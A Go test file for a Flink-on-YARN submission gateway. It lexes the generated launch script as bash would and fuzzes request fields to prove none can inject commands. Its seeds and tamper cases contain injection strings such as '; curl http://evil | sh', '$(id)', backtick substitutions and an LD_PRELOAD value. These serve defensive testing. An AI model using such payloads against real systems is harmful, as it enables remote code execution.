package flink

import (
	"errors"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// A small model of how bash reads one line of the NodeManager's launch script, for the fuzz target: enough
// to tell the words and operators of a line and every expansion in them, not to run anything.

// shToken is a word or an operator of a shell line.
type shToken struct {
	// op is the operator (";", "|", "&&", "2>", "(", "#" for a comment, ...), "" for a word.
	op string
	// word is a word's text after quote removal.
	word string
	// expansions lists what bash would expand in the word: "$NAME", "${", "$(", "`", and glob, brace and
	// tilde characters outside quotes.
	expansions []string
}

var errUnterminated = errors.New("unterminated quote")

// lexShell splits a line as bash would into words and operators.
func lexShell(s string) ([]shToken, error) {
	var out []shToken
	var cur *shToken
	word := func() *shToken {
		if cur == nil {
			out = append(out, shToken{})
			cur = &out[len(out)-1]
		}
		return cur
	}
	end := func() { cur = nil }
	dollar := func(i int) (string, int) { // the expansion starting at s[i] == '$', and its length
		j := i + 1
		if j < len(s) && (s[j] == '{' || s[j] == '(') {
			return s[i : j+1], 2
		}
		for j < len(s) && (s[j] == '_' || s[j] >= 'a' && s[j] <= 'z' || s[j] >= 'A' && s[j] <= 'Z' || s[j] >= '0' && s[j] <= '9') {
			j++
		}
		if j == i+1 && j < len(s) && strings.ContainsRune("?!#*@$-0123456789", rune(s[j])) {
			j++
		}
		return s[i:j], j - i
	}
	for i := 0; i < len(s); {
		c := s[i]
		switch {
		case c == ' ' || c == '\t':
			end()
			i++
		case c == '\n' || strings.IndexByte(";&|()<>", c) >= 0:
			op := string(c)
			if cur != nil && (c == '<' || c == '>') && strings.Trim(cur.word, "0123456789") == "" && len(cur.expansions) == 0 {
				op = cur.word + op // a redirection with a descriptor: 2> 1>
				out = out[:len(out)-1]
			}
			end()
			if i+1 < len(s) && (s[i+1] == c && c != '(' && c != ')' || c == '>' && s[i+1] == '&') {
				op += string(s[i+1])
				i++
			}
			out = append(out, shToken{op: op})
			i++
		case c == '#' && cur == nil:
			out = append(out, shToken{op: "#"})
			return out, nil
		case c == '\\':
			if i+1 < len(s) {
				word().word += s[i+1 : i+2]
			}
			i += 2
		case c == '\'':
			j := strings.IndexByte(s[i+1:], '\'')
			if j < 0 {
				return nil, errUnterminated
			}
			word().word += s[i+1 : i+1+j]
			i += j + 2
		case c == '"':
			w := word()
			i++
			for {
				if i >= len(s) {
					return nil, errUnterminated
				}
				d := s[i]
				if d == '"' {
					i++
					break
				}
				switch {
				case d == '\\' && i+1 < len(s) && strings.IndexByte("$`\"\\\n", s[i+1]) >= 0:
					w.word += s[i+1 : i+2]
					i += 2
				case d == '$':
					e, n := dollar(i)
					if n > 1 {
						w.expansions = append(w.expansions, e)
					}
					w.word += e
					i += n
				case d == '`':
					w.expansions = append(w.expansions, "`")
					w.word += "`"
					i++
				default:
					w.word += s[i : i+1]
					i++
				}
			}
		case c == '$':
			e, n := dollar(i)
			w := word()
			if n > 1 {
				w.expansions = append(w.expansions, e)
			}
			w.word += e
			i += n
		case strings.IndexByte("`*?[]{}", c) >= 0 || c == '~' && cur == nil:
			w := word()
			w.expansions = append(w.expansions, s[i:i+1])
			w.word += s[i : i+1]
			i++
		default:
			word().word += s[i : i+1]
			i++
		}
	}
	return out, nil
}

func TestLexShell(t *testing.T) {
	tests := []struct {
		line string
		want string // tokens as printed by shape
	}{
		{`exec /bin/bash -c "a b"`, `w:exec w:/bin/bash w:-c w:a b`},
		{`export X="a b's"`, `w:export w:X=a b's`},
		{`export X="a$(id)"`, `w:export w:X=a$(id)[$(]`},
		{`export X="a\"; id; \""`, `w:export w:X=a"; id; "`},
		{`export X="a"; id; "b"`, `w:export w:X=a op:; w:id op:; w:b`},
		{`a 1> f 2> g`, `w:a op:1> w:f op:2> w:g`},
		{`$JAVA_HOME/bin/java -Dx=1 # c`, `w:$JAVA_HOME/bin/java[$JAVA_HOME] w:-Dx=1 op:#`},
		{"a\nb", `w:a op:` + "\n" + ` w:b`},
		{"a `id` *.jar", "w:a w:`id`[` `] w:*.jar[*]"},
		{`a'b c'd`, `w:ab cd`},
	}
	for _, tc := range tests {
		toks, err := lexShell(tc.line)
		if err != nil {
			t.Fatalf("lexShell(%q): %v", tc.line, err)
		}
		if got := shape(toks); got != tc.want {
			t.Errorf("lexShell(%q) = %s, want %s", tc.line, got, tc.want)
		}
	}
	if _, err := lexShell(`export X="a`); !errors.Is(err, errUnterminated) {
		t.Errorf("unterminated quote: %v", err)
	}
}

// shape prints tokens for comparison: operators, and words with their expansions.
func shape(toks []shToken) string {
	parts := make([]string, len(toks))
	for i, t := range toks {
		if t.op != "" {
			parts[i] = "op:" + t.op
			continue
		}
		parts[i] = "w:" + t.word
		if len(t.expansions) > 0 {
			parts[i] += "[" + strings.Join(t.expansions, " ") + "]"
		}
	}
	return strings.Join(parts, " ")
}

// nodeManagerExpand is what ContainerLaunch.expandEnvironment does to commands and environment values before
// writing them into the launch script.
func nodeManagerExpand(s string) string {
	return strings.NewReplacer("{{", "$", "}}", "", "<LOG_DIR>", "/var/log/yarn/c1", "<CPS>", ":").Replace(s)
}

var digits = regexp.MustCompile(`[0-9]+`)

// scriptShape is the shell structure of a plan's launch script: the JobManager command's words and
// operators as the inner bash reads them, and each environment line's.
type scriptShape struct {
	command []shToken
	env     map[string][]shToken
}

// launchScript builds the plan's submission and reads its command and environment as the NodeManager's
// launch script presents them to bash (export NAME="value" lines, exec /bin/bash -c "<command>").
func launchScript(plan *Plan) (*scriptShape, error) {
	staged := Staged{Config: RemoteFile{Key: plan.ConfigName, URI: plan.AppDir + "/" + plan.ConfigName, Size: int64(len(plan.ConfigYAML)) + 1, ModTime: 1700000002000}}
	sc, err := plan.Submission(staged)
	if err != nil {
		return nil, err
	}
	if len(sc.AMContainerSpec.Commands) != 1 {
		return nil, fmt.Errorf("%d commands", len(sc.AMContainerSpec.Commands))
	}
	outer, err := lexShell(`exec /bin/bash -c "` + nodeManagerExpand(sc.AMContainerSpec.Commands[0]) + `"`)
	if err != nil {
		return nil, fmt.Errorf("command line: %w", err)
	}
	if len(outer) != 4 || shape(outer[:3]) != "w:exec w:/bin/bash w:-c" || outer[3].op != "" {
		return nil, fmt.Errorf("the command line is %s, not exec /bin/bash -c <one word>", shape(outer))
	}
	if len(outer[3].expansions) != 1 || outer[3].expansions[0] != "$JAVA_HOME" {
		return nil, fmt.Errorf("the command line expands %v, only $JAVA_HOME is expected", outer[3].expansions)
	}
	sh := &scriptShape{env: map[string][]shToken{}}
	if sh.command, err = lexShell(outer[3].word); err != nil {
		return nil, fmt.Errorf("command: %w", err)
	}
	for name, value := range sc.AMContainerSpec.Environment {
		toks, err := lexShell(`export ` + name + `="` + nodeManagerExpand(value) + `"`)
		if err != nil {
			return nil, fmt.Errorf("environment %s: %w", name, err)
		}
		sh.env[name] = toks
	}
	return sh, nil
}

// sameStructure compares a launch script with the baseline's: the command has the baseline's operators and
// expansions in the same order, and no word the baseline does not have (up to digits: memory sizes vary);
// every environment line is `export NAME=value`, one word, with the baseline's expansions for the
// gateway's variables and none for the request's, whose value arrives exactly as requested (userEnv).
func sameStructure(base, got *scriptShape, userEnv map[string]string) error {
	skeleton := func(toks []shToken) (ops string, words map[string]bool) {
		words = map[string]bool{}
		var b []string
		for _, t := range toks {
			switch {
			case t.op != "":
				b = append(b, t.op)
			case len(t.expansions) > 0:
				b = append(b, t.word+"["+strings.Join(t.expansions, " ")+"]")
			default:
				words[digits.ReplaceAllString(t.word, "0")] = true
			}
		}
		return strings.Join(b, " "), words
	}
	baseOps, baseWords := skeleton(base.command)
	ops, words := skeleton(got.command)
	if ops != baseOps {
		return fmt.Errorf("command operators and expansions %q, baseline %q", ops, baseOps)
	}
	for w := range words {
		if !baseWords[w] {
			return fmt.Errorf("command word %q is not one of the baseline's", w)
		}
	}
	for name, toks := range got.env {
		if len(toks) != 2 || toks[0].op != "" || toks[0].word != "export" || toks[1].op != "" || !strings.HasPrefix(toks[1].word, name+"=") {
			return fmt.Errorf("environment line of %s is %s, not export %s=<one word>", name, shape(toks), name)
		}
		if v, ok := userEnv[name]; ok {
			if len(toks[1].expansions) > 0 || toks[1].word != name+"="+v {
				return fmt.Errorf("environment %s of the request reads as %s, want %s=%s without expansions", name, shape(toks), name, v)
			}
			continue
		}
		b, ok := base.env[name]
		if !ok {
			return fmt.Errorf("environment variable %s is neither the gateway's nor the request's", name)
		}
		if !slices.Equal(toks[1].expansions, b[1].expansions) {
			return fmt.Errorf("environment %s expands %v, baseline %v", name, toks[1].expansions, b[1].expansions)
		}
	}
	return nil
}

// FuzzLaunchShell: no request field changes the shell structure of the JobManager's command or of its
// environment. Every field a request sets reaches the plan (args, entry class, name, queue, memory sizes,
// the jar's name, flinkConfig keys and values, environment variables, tags); whatever NewPlan and
// Submission accept must read, in the NodeManager's launch script, as the baseline does.
func FuzzLaunchShell(f *testing.F) {
	spec, _ := testSpec(f, "2.2.1", stockConfig22)
	spec.FlinkConfig = nil
	basePlan, err := NewPlan(spec)
	if err != nil {
		f.Fatal(err)
	}
	base, err := launchScript(basePlan)
	if err != nil {
		f.Fatal(err)
	}
	seeds := [][]string{
		{"--n\x0010", "org.example.Job", "job", "default", "env.java.opts.jobmanager", "-Dx=1; curl http://evil/x | sh #", "FOO", "bar", "1600m", "1728m", "team-a", "wordcount"},
		{"$(id)", "a;b", "`id`", "q", "yarn.container-start-command-template", "%java% %class%; id", "BAR", "$(id)", "2g", "1g", "yarngate-idem:00", "a$(id)"},
		{"", "", "", "", "containerized.master.env.X", "{{(id)}}", "LD_PRELOAD", "/tmp/x.so", "1024m", "1024m", "", "w{{(id)}}"},
		{"a\nb", "C", "n\"", "q'", "jobmanager.memory.off-heap.size", "0", "TZ", "a\"; id; \"", "1600m", "", "x", "job"},
		{"x", "C", "n", "q", "jobmanager.memory.jvm-overhead.fraction", "0.5", "GREETING", "it's (fine) | & ; #", "3g", "2g", "a,b", "j"},
		{"x", "C", "n", "q", "env.java.home", "/opt/java`id`", "A", "b\\", "1600m", "1600m", "", "j"},
	}
	for _, s := range seeds {
		f.Add(s[0], s[1], s[2], s[3], s[4], s[5], s[6], s[7], s[8], s[9], s[10], s[11])
	}
	f.Fuzz(func(t *testing.T, args, entry, name, queue, key, value, envName, envValue, jmMem, tmMem, tags, jarName string) {
		s := spec
		s.Args = strings.Split(args, "\x00")
		s.EntryClass, s.Name, s.Queue, s.JobManagerMemory, s.TaskManagerMemory = entry, name, queue, jmMem, tmMem
		s.UserJar.URI = "hdfs://localhost:19000/yarngate/jars/" + jarName + ".jar"
		s.FlinkConfig = map[string]string{key: value, "containerized.master.env." + envName: envValue,
			"containerized.taskmanager.env." + envName: envValue, "yarn.tags": tags}
		plan, err := NewPlan(s)
		if err != nil {
			if !errors.Is(err, ErrInvalidSpec) {
				t.Fatalf("NewPlan: %v, not an invalid spec", err)
			}
			return
		}
		got, err := launchScript(plan)
		if err != nil {
			if strings.Contains(err.Error(), "build flink submission") {
				return // Submission refused the launch
			}
			t.Fatalf("%v\ncommand: %s", err, plan.Command)
		}
		userEnv := map[string]string{envName: envValue}
		if name, ok := strings.CutPrefix(key, "containerized.master.env."); ok {
			userEnv[name] = value
		}
		if err := sameStructure(base, got, userEnv); err != nil {
			t.Fatalf("%v\ncommand: %s\nenvironment: %v", err, plan.Command, slices.Sorted(maps.Keys(got.env)))
		}
	})
}

// TestLaunchShellOracle: the fuzz target's check catches a changed structure (an injected command, an
// expansion in the environment, a new variable), and passes what a request may legitimately set.
func TestLaunchShellOracle(t *testing.T) {
	spec, _ := testSpec(t, "2.2.1", stockConfig22)
	spec.FlinkConfig = nil
	basePlan, err := NewPlan(spec)
	if err != nil {
		t.Fatal(err)
	}
	base, err := launchScript(basePlan)
	if err != nil {
		t.Fatal(err)
	}
	ok := spec
	ok.FlinkConfig = map[string]string{"containerized.master.env.GREETING": "it's (fine) | & ; # <x>", "jobmanager.memory.off-heap.size": "0"}
	ok.JobManagerMemory = "3g"
	plan, err := NewPlan(ok)
	if err != nil {
		t.Fatal(err)
	}
	got, err := launchScript(plan)
	if err != nil {
		t.Fatal(err)
	}
	if err := sameStructure(base, got, map[string]string{"GREETING": ok.FlinkConfig["containerized.master.env.GREETING"]}); err != nil {
		t.Fatalf("a legitimate launch: %v", err)
	}
	tamper := []struct {
		name   string
		change func(p *Plan)
	}{
		{"command injected", func(p *Plan) { p.Command = strings.Replace(p.Command, " 1>", "; curl http://evil | sh 1>", 1) }},
		{"command substitution", func(p *Plan) { p.Command = strings.Replace(p.Command, "-Xmx", "$(id)-Xmx", 1) }},
		{"word added", func(p *Plan) { p.Command = strings.Replace(p.Command, " 1>", " -XX:OnError=id 1>", 1) }},
		{"quote broken", func(p *Plan) { p.Command = strings.Replace(p.Command, "-Xmx", `"-Xmx`, 1) }},
		{"environment expanded", func(p *Plan) { p.Config["containerized.master.env.GREETING"] = "{{(id)}}" }},
		{"environment quote broken", func(p *Plan) { p.Config["containerized.master.env.GREETING"] = `a"; id; "` }},
		{"variable of nobody", func(p *Plan) { p.Config["containerized.master.env.OTHER"] = "x" }},
	}
	for _, tc := range tamper {
		t.Run(tc.name, func(t *testing.T) {
			p, err := NewPlan(ok)
			if err != nil {
				t.Fatal(err)
			}
			tc.change(p)
			got, err := launchScript(p)
			if err == nil {
				err = sameStructure(base, got, map[string]string{"GREETING": ok.FlinkConfig["containerized.master.env.GREETING"]})
			}
			if err == nil {
				t.Fatal("the check passed a changed launch script")
			}
		})
	}
}
